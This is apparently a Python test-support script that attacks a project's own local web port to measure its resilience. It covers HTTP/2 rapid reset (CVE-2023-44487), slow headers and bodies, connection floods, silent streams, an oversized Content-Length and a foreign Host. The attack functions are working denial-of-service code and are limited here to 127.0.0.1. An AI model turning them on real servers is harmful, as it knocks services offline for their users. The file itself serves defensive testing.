"""Attacks on the browser port from outside, with raw sockets and the stock ``h2`` package (no project
code on the client side): rapid reset (CVE-2023-44487), slow headers and bodies, idle connections,
connection floods, silent streams, an oversized ``Content-Length``, a foreign ``Host``, and SIGTERM
after a burst. Each attack returns what it saw; ``tests/test_web_edge.py`` asserts the bounds on
them, and run as a script this file measures every attack on a server of any checkout (before and
after, docs/PERFORMANCE.md "Browser port under attack")::

    python tests/web_attacks.py --resets 100000            # the server of this checkout
    PYTHONPATH=/tmp/before/_pkg python tests/web_attacks.py # another checkout's server

Everything is bounded in time and count and speaks to 127.0.0.1 only."""

from __future__ import annotations

import argparse
import contextlib
import json
import select
import socket
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from bigtwo.tools.local_server import LocalServer, free_port

SERVICE = "bigtwo.v1.BigTwoService"
HOST = "127.0.0.1"


def readable(sock: socket.socket, seconds: float) -> bool:
    """Whether ``sock`` has something to read (or was closed) within ``seconds`` (poll: the connection
    floods hold descriptors past select's 1,024)."""
    poller = select.poll()
    poller.register(sock, select.POLLIN | select.POLLERR | select.POLLHUP)
    return bool(poller.poll(max(0.0, seconds) * 1000))


def rss_kib(pid: int) -> int:
    """The process's resident set (VmRSS), in KiB, from /proc."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise RuntimeError(f"no VmRSS for {pid}")


def unary_headers(port: int, path: str = "NameCards", authority: str | None = None) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", authority or f"{HOST}:{port}"),
        (":path", f"/{SERVICE}/{path}"),
        ("content-type", "application/proto"),
        ("connect-protocol-version", "1"),
    ]


def h2_client() -> h2.connection.H2Connection:
    return h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))


def _read_events(
    sock: socket.socket, connection: h2.connection.H2Connection, wait: float
) -> tuple[list[h2.events.Event], bool]:
    """Events read within ``wait`` seconds, and whether the server closed the connection."""
    events: list[h2.events.Event] = []
    deadline = time.monotonic() + wait
    while True:
        left = deadline - time.monotonic()
        if left <= 0 or not readable(sock, left):
            return events, False
        try:
            data = sock.recv(1 << 16)
        except (ConnectionResetError, BrokenPipeError):
            return events, True
        if not data:
            return events, True
        try:
            events.extend(connection.receive_data(data))
        except h2.exceptions.ProtocolError:  # frames after the server's GOAWAY
            return events, True
        pending = connection.data_to_send()
        if pending:
            with contextlib.suppress(OSError):
                sock.sendall(pending)
        if any(isinstance(event, h2.events.ConnectionTerminated) for event in events):
            return events, False


@dataclass
class ResetOutcome:
    streams_sent: int
    goaway: bool
    goaway_code: str
    closed: bool
    seconds: float
    rss_before_kib: int = 0
    rss_peak_kib: int = 0
    rss_after_kib: int = 0

    @property
    def growth_mb(self) -> float:
        return (self.rss_after_kib - self.rss_before_kib) / 1024


def rapid_reset(port: int, streams: int, pid: int | None = None, batch: int = 100, settle: float = 3.0) -> ResetOutcome:
    """Open ``streams`` HTTP/2 streams on one connection, resetting each at once (HEADERS then
    RST_STREAM, ``batch`` pairs a write), until done or the server sends GOAWAY or closes; then close
    and, after ``settle`` seconds, read the server's RSS again."""
    rss_before = rss_kib(pid) if pid else 0
    peak = rss_before
    started = time.monotonic()
    sent = 0
    goaway, code, closed = False, "", False
    connection = h2_client()
    with socket.create_connection((HOST, port), timeout=10) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        headers = unary_headers(port)
        while sent < streams and not (goaway or closed):
            for _ in range(min(batch, streams - sent)):
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, headers)
                connection.reset_stream(stream_id)
                sent += 1
            try:
                sock.sendall(connection.data_to_send())
            except OSError:
                closed = True
                break
            events, closed = _read_events(sock, connection, 0.002)  # a GOAWAY is read before the close
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway, code = True, str(event.error_code)
            if pid and sent % (batch * 20) == 0:
                peak = max(peak, rss_kib(pid))
        if not (goaway or closed):  # all sent: did the server end it after the last ones?
            events, closed = _read_events(sock, connection, 1.0)
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway, code = True, str(event.error_code)
    seconds = time.monotonic() - started
    if pid:
        peak = max(peak, rss_kib(pid))
        time.sleep(settle)
    return ResetOutcome(sent, goaway, code, closed, seconds, rss_before, peak, rss_kib(pid) if pid else 0)


def rapid_reset_reconnecting(port: int, streams: int, pid: int | None = None, settle: float = 3.0) -> ResetOutcome:
    """Rapid reset that opens a new connection each time the server ends one, until ``streams``
    streams have been opened and reset in all: the total a server lets through, and its RSS after."""
    rss_before = rss_kib(pid) if pid else 0
    peak, sent, connections, goaways = rss_before, 0, 0, 0
    started = time.monotonic()
    while sent < streams:
        outcome = rapid_reset(port, streams - sent, None, settle=0)
        sent += outcome.streams_sent
        connections += 1
        goaways += outcome.goaway
        if pid and connections % 50 == 0:
            peak = max(peak, rss_kib(pid))
    seconds = time.monotonic() - started
    if pid:
        peak = max(peak, rss_kib(pid))
        time.sleep(settle)
    code = f"{goaways} GOAWAY of {connections} connections"
    return ResetOutcome(sent, goaways > 0, code, True, seconds, rss_before, peak, rss_kib(pid) if pid else 0)


def seconds_until_closed(sock: socket.socket, limit: float) -> float | None:
    """Seconds until the server closes ``sock`` (reading and dropping what it sends), None if it
    is still open after ``limit``."""
    started = time.monotonic()
    while time.monotonic() - started < limit:
        if readable(sock, 0.2):
            try:
                if not sock.recv(1 << 16):
                    return time.monotonic() - started
            except OSError:
                return time.monotonic() - started
    return None


def slow_headers(port: int, limit: float) -> float | None:
    """An HTTP/1.1 request whose headers never end: seconds until the server closes it."""
    with socket.create_connection((HOST, port), timeout=10) as sock:
        sock.sendall(f"POST /{SERVICE}/NameCards HTTP/1.1\r\nHost: {HOST}:{port}\r\n".encode())
        return seconds_until_closed(sock, limit)


def slow_body(port: int, limit: float) -> tuple[float | None, bytes]:
    """A unary call whose body never arrives whole (10 of 100 bytes): seconds until the server
    answers or closes, and the start of what it answered."""
    with socket.create_connection((HOST, port), timeout=10) as sock:
        sock.sendall(
            (
                f"POST /{SERVICE}/NameCards HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
                "Content-Type: application/proto\r\nConnect-Protocol-Version: 1\r\nContent-Length: 100\r\n\r\n"
            ).encode()
            + b"\x0a\x08"
            + b"\x00" * 8
        )
        started = time.monotonic()
        answer = b""
        while time.monotonic() - started < limit:
            if readable(sock, 0.2):
                try:
                    data = sock.recv(1 << 16)
                except OSError:
                    data = b""
                if not data:
                    return time.monotonic() - started, answer
                answer += data
                if b"\r\n\r\n" in answer:
                    return time.monotonic() - started, answer[:200]
        return None, answer


def idle_http1(port: int, limit: float) -> float | None:
    """A kept-alive HTTP/1.1 connection that sends nothing after one answer: seconds until closed."""
    with socket.create_connection((HOST, port), timeout=10) as sock:
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode())
        started = time.monotonic()
        while b"</html>" not in sock.recv(1 << 16) and time.monotonic() - started < 10:
            pass
        return seconds_until_closed(sock, limit)


def idle_http2(port: int, limit: float) -> float | None:
    """An HTTP/2 connection that opens no stream (answering pings): seconds until closed."""
    connection = h2_client()
    with socket.create_connection((HOST, port), timeout=10) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        started = time.monotonic()
        while time.monotonic() - started < limit:
            events, closed = _read_events(sock, connection, 0.5)
            if closed or any(isinstance(event, h2.events.ConnectionTerminated) for event in events):
                return time.monotonic() - started
        return None


@contextlib.contextmanager
def idle_http2_connections(port: int, count: int) -> Iterator[list[socket.socket]]:
    """``count`` HTTP/2 connections, each with its preface and SETTINGS sent and no stream opened
    (the kernel answers for them while they are held: the server sees live, idle connections)."""
    held: list[socket.socket] = []
    try:
        for _ in range(count):
            connection = h2_client()
            sock = socket.create_connection((HOST, port), timeout=10)
            connection.initiate_connection()
            sock.sendall(connection.data_to_send())
            held.append(sock)
        yield held
    finally:
        for sock in held:
            sock.close()


def advertised_streams(port: int) -> int | None:
    """The server's SETTINGS_MAX_CONCURRENT_STREAMS (None: not sent, unbounded)."""
    connection = h2_client()
    with socket.create_connection((HOST, port), timeout=10) as sock:
        connection.initiate_connection()
        sock.sendall(connection.data_to_send())
        events, _ = _read_events(sock, connection, 2.0)
    for event in events:
        if isinstance(event, h2.events.RemoteSettingsChanged):
            changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            return changed.new_value if changed is not None else None
    return None


def served_within(port: int, seconds: float, host: str | None = None) -> tuple[int | None, bytes]:
    """A small HTTP/1.1 request (the table's page): its status if answered within ``seconds``, and
    the start of the answer."""
    try:
        with socket.create_connection((HOST, port), timeout=seconds) as sock:
            sock.sendall(f"GET / HTTP/1.1\r\nHost: {host or f'{HOST}:{port}'}\r\nConnection: close\r\n\r\n".encode())
            answer = b""
            deadline = time.monotonic() + seconds
            while b"\r\n" not in answer and time.monotonic() < deadline:
                if readable(sock, 0.1):
                    data = sock.recv(4096)
                    if not data:
                        break
                    answer += data
    except OSError:
        return None, b""
    if not answer.startswith(b"HTTP/1.1 "):
        return None, answer
    return int(answer[9:12]), answer[:300]


@contextlib.contextmanager
def held_connections(port: int, count: int) -> Iterator[list[socket.socket]]:
    """``count`` connections each holding a request whose headers never end."""
    held: list[socket.socket] = []
    try:
        for _ in range(count):
            sock = socket.create_connection((HOST, port), timeout=10)
            sock.sendall(b"GET / HTTP/1.1\r\n")
            held.append(sock)
        yield held
    finally:
        for sock in held:
            sock.close()


def oversized_declared(port: int, declared: int, wait: float) -> tuple[float | None, bytes]:
    """A unary call declaring ``declared`` body bytes, sending none: seconds until an answer comes
    (before the body was sent), and its start."""
    with socket.create_connection((HOST, port), timeout=10) as sock:
        sock.sendall(
            (
                f"POST /{SERVICE}/NameCards HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
                f"Content-Type: application/proto\r\nConnect-Protocol-Version: 1\r\nContent-Length: {declared}\r\n\r\n"
            ).encode()
        )
        started = time.monotonic()
        answer = b""
        while time.monotonic() - started < wait:
            if readable(sock, 0.1):
                data = sock.recv(1 << 16)
                if not data:
                    break
                answer += data
                if b"\r\n\r\n" in answer:
                    return time.monotonic() - started, answer[:400]
        return (time.monotonic() - started if answer else None), answer[:400]


def silent_stream(port: int, limit: float, timeout_ms: int | None = None) -> tuple[float | None, bytes]:
    """A Connect PlayStream over HTTP/2 that sends its opening message and then nothing, the
    stream left open: seconds until the server ends it, and the end's bytes."""
    from bigtwo.v1 import service_pb2 as api
    from bigtwo.v1 import types_pb2 as pb

    opened = api.PlayStreamRequest(
        open=api.StreamOpen(
            game=pb.Game(log=pb.GameLog(ruleset=pb.Ruleset(preset="classic"), deal_code="0000003NQK8N1"))
        )
    ).SerializeToString()
    headers = unary_headers(port, "PlayStream")
    headers[4] = ("content-type", "application/connect+proto")
    if timeout_ms is not None:
        headers.append(("connect-timeout-ms", str(timeout_ms)))
    connection = h2_client()
    with socket.create_connection((HOST, port), timeout=10) as sock:
        connection.initiate_connection()
        connection.send_headers(1, headers)
        connection.send_data(1, b"\x00" + len(opened).to_bytes(4, "big") + opened)
        sock.sendall(connection.data_to_send())
        started = time.monotonic()
        body = b""
        while time.monotonic() - started < limit:
            events, closed = _read_events(sock, connection, 0.5)
            for event in events:
                if isinstance(event, h2.events.DataReceived):
                    body += event.data
                    connection.acknowledge_received_data(event.flow_controlled_length, 1)
                if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset) and event.stream_id == 1:
                    return time.monotonic() - started, body[-300:]
            if closed:
                return time.monotonic() - started, body[-300:]
        return None, body[-300:]


# -- a server to attack, and the measuring script ----------------------------------------------------


def start_server(folder: Path, *args: str, grace: float = 5.0) -> LocalServer:
    """``bigtwo serve`` with its browser port, of whichever checkout ``bigtwo`` imports from, once its
    health says SERVING (the browser port is up before that)."""
    port = free_port()
    keys = "attack-key-" + "a" * 40
    return LocalServer(
        *args, port=port, web=True, grace=grace, keys=keys, home=folder, log=folder / f"server-{port}.log"
    )


def stop_timed(server: LocalServer, wait: float = 30.0) -> tuple[float | None, int]:
    """SIGTERM: seconds until it exited (None: killed after ``wait``) and the exit code."""
    started = time.monotonic()
    code = server.stop(wait)
    return (None if server.killed else time.monotonic() - started), int(code or 0)


def warm(port: int) -> None:
    for _ in range(20):
        served_within(port, 5.0)


def measure(resets: int, folder: Path, only_sigterm: bool = False) -> list[dict[str, object]]:
    rows: list[dict[str, object]] = []

    def row(attack: str, result: object) -> None:
        rows.append({"attack": attack, "result": result})
        print(json.dumps(rows[-1]), flush=True)

    if not only_sigterm:
        _each_attack(resets, folder, row)
    _sigterm_after_burst(resets, folder, row)
    return rows


def _each_attack(resets: int, folder: Path, row: Callable[[str, object], None]) -> None:
    server = start_server(folder)
    try:
        warm(server.web_port)
        outcome = rapid_reset(server.web_port, resets, server.pid)
        row(f"rapid reset, {resets} streams", {**asdict(outcome), "growth_mb": round(outcome.growth_mb, 1)})
        row("served after it", served_within(server.web_port, 10.0)[0])
        outcome = rapid_reset_reconnecting(server.web_port, resets, server.pid)
        row(
            f"rapid reset, {resets} streams, reconnecting",
            {**asdict(outcome), "growth_mb": round(outcome.growth_mb, 1)},
        )
        row("slow headers (s until closed, 60 max)", slow_headers(server.web_port, 60))
        took, answer = slow_body(server.web_port, 60)
        row("slow body (s until answered or closed, 60 max)", [took, answer[:60].decode("latin-1")])
        row("idle HTTP/1.1 (s until closed, 60 max)", idle_http1(server.web_port, 60))
        row("idle HTTP/2 (s until closed, 90 max)", idle_http2(server.web_port, 90))
        with idle_http2_connections(server.web_port, 1100):
            started = time.monotonic()
            status, _ = served_within(server.web_port, 90.0)
            took = round(time.monotonic() - started, 1) if status is not None else None
            row("1,100 idle HTTP/2 connections: s until a new request is answered (90 max)", [took, status])
        row("HTTP/2 streams per connection advertised", advertised_streams(server.web_port))
        with held_connections(server.web_port, 1100):
            status, _ = served_within(server.web_port, 2.0)
            row("1,100 held connections: a new request answered within 2 s", status)
        took, answer = oversized_declared(server.web_port, 4 << 20, 10)
        row("Content-Length 4 MiB, no body sent (s until answered)", [took, answer[:40].decode("latin-1")])
        row("Host: evil.example (status)", served_within(server.web_port, 5.0, "evil.example")[0])
        took, answer = silent_stream(server.web_port, 20)
        row("silent stream, no deadline (s until ended, 20 max)", took)
        took, answer = silent_stream(server.web_port, 20, timeout_ms=1500)
        row("silent stream, 1.5 s deadline (s until ended)", took)
        row("tracebacks in the log", server.log().count("Traceback"))
    finally:
        took, code = stop_timed(server)
        row("SIGTERM, --grace 5 (s until exit, None: killed after 30)", [took, code])


def _sigterm_after_burst(resets: int, folder: Path, row: Callable[[str, object], None]) -> None:
    server = start_server(folder)
    try:
        warm(server.web_port)
        rapid_reset(server.web_port, resets, server.pid, settle=0)
    finally:
        took, code = stop_timed(server)
    log = server.log()
    row("SIGTERM right after the rapid reset, --grace 5 (s, exit code)", [took, code])
    row("tracebacks in the log after it", log.count("Traceback"))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--resets", type=int, default=100_000)
    parser.add_argument("--only-sigterm", action="store_true", help="only SIGTERM after a rapid-reset burst")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="web-attacks-") as folder:
        measure(args.resets, Path(folder), args.only_sigterm)
    return 0


if __name__ == "__main__":
    sys.exit(main())
